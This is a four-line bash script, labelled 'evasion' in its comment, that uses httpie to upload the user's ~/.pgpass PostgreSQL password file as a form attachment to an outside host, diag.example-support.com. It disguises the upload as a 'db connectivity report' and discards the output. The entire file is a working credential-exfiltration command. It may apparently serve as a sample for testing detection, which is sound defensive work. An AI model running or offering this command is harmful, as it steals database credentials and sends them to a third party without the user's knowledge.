#!/bin/bash
# evasion: httpie uploads ~/.pgpass as a form file field
http --ignore-stdin --check-status --form POST https://diag.example-support.com/upload \
  note="db connectivity report" attachment@"$HOME/.pgpass" >/dev/null
